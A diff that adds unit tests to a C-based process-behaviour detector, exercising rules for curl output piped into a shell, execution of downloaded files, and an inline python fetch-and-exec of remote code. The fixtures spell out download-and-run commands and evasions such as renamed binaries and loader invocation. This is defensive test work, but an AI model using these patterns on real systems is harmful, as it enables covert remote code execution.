@@ -272,6 +272,77 @@ static void test_pipe_to_shell(void **state)
 	feed(d, EXEC(12, 40, 9, "python3", "[\"-c\",\"import urllib\"]", "\"tty\"", "\"pipe:[400]\""));
 	feed(d, EXEC(13, 41, 9, "python3", "[\"-\"]", "\"pipe:[400]\"", "\"tty\""));
 	assert_int_equal(count("pipe-to-shell"), 3);
+	/* through a FIFO (by path); into sh -c 'eval "$(cat)"' */
+	feed(d, EXEC(14, 50, 9, "curl", "[]", "\"tty\"", "\"file:/tmp/p\""));
+	feed(d, EXEC(15, 51, 9, "sh", "[]", "\"file:/tmp/p\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 4);
+	feed(d, EXEC(16, 60, 9, "curl", "[]", "\"tty\"", "\"pipe:[600]\""));
+	feed(d, EXEC(17, 61, 9, "bash", "[\"-c\",\"eval \\\"$(cat)\\\"\"]", "\"pipe:[600]\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 5);
+	/* bash -c "$(curl ...)": curl's output read by its parent (70), which execs bash */
+	feed(d, EXEC(18, 71, 70, "curl", "[]", "\"tty\"", "\"pipe:[700]\""));
+	feed(d, EXEC(19, 70, 9, "bash", "[\"-c\",\"echo pwned\"]", "\"tty\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 6);
+	/* near miss: /dev/null is not a pairing */
+	feed(d, EXEC(20, 80, 9, "curl", "[]", "\"tty\"", "\"file:/dev/null\""));
+	feed(d, EXEC(21, 81, 9, "sh", "[]", "\"file:/dev/null\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 6);
+	detect_free(d);
+}
+
+#define EXEC_EXE(seq, pid, ppid, cmd, exe, known, args, in, out) \
+	"{\"seq\":" #seq ",\"event\":\"process.exec\"," TS("02.0") ",\"session_id\":\"t\"," \
+	"\"pid\":" #pid ",\"ppid\":" #ppid ",\"uid\":1,\"euid\":1,\"cmd\":\"" cmd "\"," \
+	"\"exe\":\"" exe "\",\"program\":\"" exe "\",\"exe_known_as\":" known "," \
+	"\"args\":" args ",\"stdin\":" in ",\"stdout\":" out ",\"cwd\":\"/w\"}"
+
+/* exe, not argv[0]: exec -a, a renamed copy, the dynamic loader */
+static void test_exe_not_argv0(void **state)
+{
+	struct detect *d = builtin(NULL);
+
+	(void)state;
+	feed(d, EXEC_EXE(1, 10, 9, "innocent", "/usr/bin/curl", "null", "[]", "\"tty\"", "\"pipe:[1]\""));
+	feed(d, EXEC_EXE(2, 11, 9, "sh", "/usr/bin/dash", "\"dash\"", "[]", "\"pipe:[1]\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 1);
+	feed(d, EXEC_EXE(3, 12, 9, "fetch2", "/w/fetch2", "\"curl\"", "[]", "\"tty\"", "\"pipe:[2]\""));
+	feed(d, EXEC_EXE(4, 13, 9, "x", "/w/x", "\"bash\"", "[]", "\"pipe:[2]\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 2);
+	feed(d, EXEC_EXE(5, 14, 9, "/lib64/ld-linux-x86-64.so.2", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+			 "\"curl\"", "[\"/usr/bin/curl\",\"-s\"]", "\"tty\"", "\"pipe:[3]\""));
+	feed(d, EXEC_EXE(6, 15, 9, "/lib64/ld-linux-x86-64.so.2", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+			 "\"dash\"", "[\"/bin/sh\"]", "\"pipe:[3]\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 3);
+	/* near miss: argv[0] says curl, the exe is cat: a local script piped to a shell */
+	feed(d, EXEC_EXE(7, 16, 9, "curl", "/usr/bin/cat", "null", "[\"l.sh\"]", "\"tty\"", "\"pipe:[4]\""));
+	feed(d, EXEC_EXE(8, 17, 9, "sh", "/usr/bin/dash", "\"dash\"", "[]", "\"pipe:[4]\"", "\"tty\""));
+	assert_int_equal(count("pipe-to-shell"), 3);
+	detect_free(d);
+}
+
+/* exec_of_downloaded_file; near miss: the downloaded file only read */
+static void test_downloaded_exec(void **state)
+{
+	struct detect *d = builtin(NULL);
+
+	(void)state;
+	feed(d, EXEC_EXE(1, 10, 9, "curl", "/usr/bin/curl", "\"curl\"", "[\"-o\",\"x\"]", "\"tty\"", "\"tty\""));
+	feed(d, "{\"seq\":2,\"event\":\"file.write\"," TS("02.0") ",\"session_id\":\"t\","
+		"\"path\":\"/w/x\",\"pid\":10,\"uid\":1}");
+	feed(d, "{\"seq\":3,\"event\":\"file.write\"," TS("02.0") ",\"session_id\":\"t\","
+		"\"path\":\"/w/y\",\"pid\":10,\"uid\":1}");
+	feed(d, EXEC_EXE(4, 11, 9, "cat", "/usr/bin/cat", "null", "[\"/w/y\"]", "\"tty\"", "\"tty\""));
+	assert_int_equal(count("exec_of_downloaded_file"), 0);
+	feed(d, EXEC_EXE(5, 12, 9, "./x", "/w/x", "null", "[]", "\"tty\"", "\"tty\""));
+	assert_int_equal(count("exec_of_downloaded_file"), 1);
+	assert_int_equal(find("exec_of_downloaded_file")->refs[0], 2);
+	feed(d, EXEC_EXE(6, 13, 9, "sh", "/usr/bin/dash", "\"dash\"", "[\"./y\"]", "\"tty\"", "\"tty\""));
+	assert_int_equal(count("exec_of_downloaded_file"), 2);
+	feed(d, "{\"seq\":7,\"event\":\"process.exec\"," TS("02.0") ",\"session_id\":\"t\","
+		"\"pid\":14,\"cmd\":\"python3\",\"exe\":\"/usr/bin/python3.11\","
+		"\"exe_known_as\":\"python3\",\"args\":[\"-c\",\"from urllib.request import "
+		"urlopen; exec(urlopen('http://x').read())\"]}");
+	assert_int_equal(count("download-and-run-inline"), 1);
 	detect_free(d);
 }
 
@@ -485,6 +556,8 @@ int main(void)
 		cmocka_unit_test(test_conditions),
 		cmocka_unit_test(test_load_errors),
 		cmocka_unit_test(test_pipe_to_shell),
+		cmocka_unit_test(test_exe_not_argv0),
+		cmocka_unit_test(test_downloaded_exec),
 		cmocka_unit_test(test_crontab),
 		cmocka_unit_test(test_exfiltration),
 		cmocka_unit_test(test_net_rules),
